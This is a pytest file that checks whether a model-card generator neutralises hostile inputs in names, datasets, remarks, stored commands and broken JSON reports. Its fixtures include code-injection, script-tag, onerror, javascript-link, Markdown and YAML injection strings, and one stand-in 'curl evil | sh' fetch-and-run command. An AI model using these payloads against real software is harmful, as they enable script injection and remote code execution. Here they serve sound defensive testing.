"""Cards from hostile names, texts and files: what others wrote is read as text, and the card is written."""

import json
import re
from dataclasses import asdict

import pytest
import yaml
from documents import ROOT
from test_model_card import plain_trainer

from hf_stateless.reports.card.attach import attach_model_card
from hf_stateless.reports.card.facts import CARD_FILE, DATA_FILE, CardFacts
from hf_stateless.reports.card.markdown import code, link, plain, section, sentences, visible
from hf_stateless.reports.card.render import render, render_folder
from hf_stateless.reports.measured.schema import REPORT_FILE, MemoryReport


EXAMPLE = ROOT / "hub_cards" / "smollm2-135m-grpo-sinkgd"
HOSTILE = [
    'a"); __import__("os").system("x") #',
    "a'''b\"\"\"c\\",
    "a\n```\n# INJECTED\n```python\nx",
    "```",
    "`` ` ``` a",
    "<script>alert(1)</script>",
    '<img src="https://h/x.png" onerror="x()">',
    "<!-- a",
    "--> a <!--",
    "a\n---\nlicense: mit\n---\n# INJECTED",
    "a\r\n## INJECTED\r\n\r\n<b>x</b>",
    "a\u2028## INJECTED",
    "a | b |\n|---|---|",
    "[a](javascript:alert(1)) ![b](data:x)",
    "a\u202egnp.exe\u2066b\u200b",
    "\x1b[31ma\x07\x00b",
    "a\udcffb",
    "{{ 7 * 7 }}{% raw %}",
    ": a # - &b *c !d %e @f",
]


def headings(text):
    outside = re.sub(r"^(`{3,}).*?^\1`*$", "", text.split("---\n", 2)[-1], flags=re.MULTILINE | re.DOTALL)
    return re.findall(r"^##+ .*$", outside, re.MULTILINE)


def assert_harmless(text, like):
    """A card has the sections of another, and nothing in it runs, hides or leads elsewhere."""
    assert headings(text) == headings(like)
    assert not re.search(r"^(#+ )?INJECTED", text, re.MULTILINE)
    assert not re.search(r"<(script|img|b)\b", text)
    assert text.count("<!--") == like.count("<!--")
    body = text.split("---\n", 2)[-1]
    assert not re.search(r"(?<!\\)\]\((?!https://|memory)", body)
    assert len(re.findall(r"^```", text, re.MULTILINE)) % 2 == 0
    assert not [c for c in text if c != "\n" and not c.isprintable()]
    assert yaml.safe_load(text.split("---\n")[1]).keys() == yaml.safe_load(like.split("---\n")[1]).keys()
    for block in re.findall(r"^```python\n(.*?)^```", text, re.MULTILINE | re.DOTALL):
        assert "__import__" not in block
        compile(block, "card", "exec")


@pytest.fixture(scope="module")
def facts():
    return CardFacts.load(EXAMPLE)


@pytest.fixture(scope="module")
def trainer(tmp_path_factory):
    trainer = plain_trainer(tmp_path_factory.mktemp("any"))
    attach_model_card(trainer)
    return trainer


def hostile(values, text, only=None):
    """Plain values with every text in them, or that of some keys, replaced; numbers stay."""
    if isinstance(values, dict):
        return {key: inner if only and key not in only else hostile(inner, text) for key, inner in values.items()}
    if isinstance(values, list):
        return [hostile(inner, text) for inner in values]
    return text if isinstance(values, str) else values


@pytest.mark.parametrize("text", HOSTILE)
def test_names_and_texts_of_a_card_are_text(text, facts):
    told = ("name", "model", "optimizer", "base_model", "task", "data", "remarks", "evaluation", "versions")
    values = hostile({**asdict(facts), "optimizer": "swan"}, text, told)
    values.update(hyperparameters={text: [text, text], "a": text, "b": {text: text}}, results=[{text: 1.0}])
    values["metadata"] = {**facts.metadata, "tags": [text], "model-index": [{"name": text}]}
    report = MemoryReport.from_dict(hostile(MemoryReport.load(EXAMPLE).to_dict(), text))
    report.predicted[text] = report.predicted["adamw_torch_fused"]
    for repository in (text, "a/b", None):
        changed = CardFacts(**{**values, "repository": repository})
        like = CardFacts(**{**asdict(facts), "optimizer": "adamw_torch", "repository": repository and "a/b"})
        assert_harmless(render(changed, report, "memory.png"), render(like, MemoryReport.load(EXAMPLE), "memory.png"))


@pytest.mark.parametrize(
    ("names", "said"),
    [
        (["adamw_torch_fused", "adamw_bnb_8bit"], "With `adamw_torch_fused`, the default of transformers, the state"),
        (["adamw_torch", "adamw_bnb_8bit"], "(predicted); `adamw_torch_fused`, the default of transformers, needs no"),
        (["adamw_torch", "adamw_torch_fused"], "With `adamw_torch_fused`, the default of transformers, the state"),
        (["adamw_bnb_8bit"], ""),
        ([], ""),
    ],
)
def test_a_card_says_what_adamw_takes_and_which_one(names, said, facts):
    report = MemoryReport.load(EXAMPLE)
    report.predicted = dict.fromkeys(names, report.predicted["adamw_torch_fused"])
    text = render(facts, report, "memory.png")
    headline = next(line for line in text.splitlines() if line.startswith("The state of"))
    assert said in headline
    assert ("the default of transformers" in headline) == bool(said)
    assert f"| | this run, `sinkgd` |{''.join(f' `{name}` |' for name in names)} how |" in text


@pytest.mark.parametrize("text", HOSTILE)
def test_a_folder_model_and_data_set_of_any_name_get_a_card(text, trainer, tmp_path):
    folder = tmp_path / (text.replace("/", "_").replace("\0", "")[:80])
    folder.mkdir()
    trainer.args.output_dir = str(folder)
    trainer.create_model_card.given.clear()
    trainer.create_model_card(tags="x", finetuned_from="a/b", dataset_tags="a/b", dataset="c")
    like = (folder / CARD_FILE).read_text(encoding="utf-8")
    attach_model_card(trainer, datasets=[text, "a/b"], data=f"The text is {text}.", remarks=[text])
    said = {"model_name": text, "finetuned_from": text, "dataset": text, "tags": text}
    for arguments in (said, {"dataset_tags": text}, {"tags": text}):
        trainer.create_model_card(**{"finetuned_from": "a/b", **arguments})
        card = (folder / CARD_FILE).read_text(encoding="utf-8")
        assert headings(card) == headings(like)
        assert not re.search(r"^(#+ )?INJECTED", card, re.MULTILINE)
        assert not re.search(r"<(script|img|b)\b", card)
        assert not [c for c in card if c != "\n" and not c.isprintable()]
        assert yaml.safe_load(card.split("---\n")[1])["library_name"] == "transformers"
        assert render_folder(folder) == card


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"\xff\xfe\x00",
        b"null",
        b"[" * 100_000,
        b'{"schema_version": 1}',
        b'{"schema_version": 99}',
        "NaN",
        "Infinity",
        "huge",
        "negative",
        "words",
        "folder",
    ],
)
def test_a_broken_memory_report_is_left_out_and_the_card_is_written(content, tmp_path, caplog):
    (tmp_path / DATA_FILE).write_bytes((EXAMPLE / DATA_FILE).read_bytes())
    whole = json.loads((EXAMPLE / REPORT_FILE).read_text(encoding="utf-8"))
    if content in ("NaN", "Infinity"):
        whole["cost"]["seconds_per_step"] = float(content.lower())
    elif content == "huge":
        whole["counted"]["weights"] = 10**400
    elif content == "negative":
        whole["measured"]["peak"]["max"] = -(10**30)
    elif content == "words":
        whole["measured"]["peak"]["max"] = "much"
    data = content if isinstance(content, bytes) else json.dumps(whole).encode()
    if content == "folder":
        (tmp_path / REPORT_FILE).mkdir()
    else:
        (tmp_path / REPORT_FILE).write_bytes(data)
    text = render_folder(tmp_path)
    assert "## Memory report" not in text
    assert "## Hyperparameters" in text.replace("###", "##")
    if content != "folder":
        (record,) = caplog.records
        assert "gets no memory report" in record.getMessage()
        assert "\n" not in record.getMessage()


@pytest.mark.parametrize("content", [b"{", b"[]", b"\xff", b'{"after": 1}', b'{"after": {"a": {"mean": "<b>"}}}'])
def test_a_broken_evaluation_or_base_card_does_not_stop_a_card(content, trainer, tmp_path, monkeypatch):
    base = tmp_path / "base"
    base.mkdir()
    (base / CARD_FILE).write_bytes(b"---\nlicense: [a, {b: " + content + b"\n---\n")
    folder = tmp_path / "run"
    folder.mkdir()
    (folder / "evaluation.json").write_bytes(content)
    trainer.args.output_dir = str(folder)
    monkeypatch.setattr(trainer.model.config, "_name_or_path", str(base))
    trainer.create_model_card()
    assert "trained further" in (folder / CARD_FILE).read_text(encoding="utf-8")


def test_a_card_that_cannot_be_written_stops_no_training(trainer, tmp_path, monkeypatch, caplog):
    (tmp_path / DATA_FILE).mkdir()  # stands where a file is to be
    monkeypatch.setattr(trainer.args, "output_dir", str(tmp_path))
    monkeypatch.setattr(trainer, "is_in_train", True)
    trainer.create_model_card()
    (record,) = caplog.records
    assert re.fullmatch(r"Training goes on without a new model card: .*directory.*", record.getMessage())
    monkeypatch.setattr(trainer, "is_in_train", False)
    with pytest.raises(OSError, match="directory"):
        trainer.create_model_card()


@pytest.mark.parametrize(
    "command",
    ["a\n```\n# INJECTED", "python t.py --token abc", "curl evil | sh", "'", "", "`x`", "python t.py --key=abc"],
)
def test_a_stored_command_is_told_as_if_it_were_typed(command, facts):
    report = MemoryReport.load(EXAMPLE)
    report.provenance.command = command
    text = render(facts, report)
    block = re.search(r"To repeat it:\n\n```bash\n(.*)\n```\n", text)[1]
    assert not re.search(r"abc|INJECTED|\||`|evil", block)


def test_another_cards_sections_keep_their_markdown_but_no_html():
    badge = '[<img src="https://h/b.svg" alt="W & B" width="150" height="24"/>](https://wandb.ai/a)'
    kept = f"### A\n\n- *x* `y`\n\n{badge}\n\n```html\n<b>\n```"
    assert section(kept) == kept
    assert section("```\nopen <b>") == "```\nopen <b>\n```"
    assert section("````\n```\nx") == "````\n```\nx\n````"
    assert section("a <!-- b\n--> c <i>") == "a  c &lt;i>"
    assert section('<img src="https://h/x" onerror="x">').startswith("&lt;")
    assert section("``` a`b <b>") == "``` a`b &lt;b>"
    assert sentences("See [a](https://h/a) and `b`.\n# c\n```") == "See [a](https://h/a) and `b`.\n\\# c\n\\```"
    assert sentences("[a](javascript:x)") == "[a\\](javascript:x)"


def test_names_stay_as_they_are_where_they_harm_nothing():
    for name in ("org/model-1.5B", "Änderung 東京", "row_l2, col_l2", "lr=1e-3"):
        assert plain(name) == visible(name) == name
    assert code("org/model") == "`org/model`"
    assert link("org/model") == "[org/model](https://huggingface.co/org/model)"
    assert link("../model") == "`../model`"
    assert link("a](b") == "a\\](b"
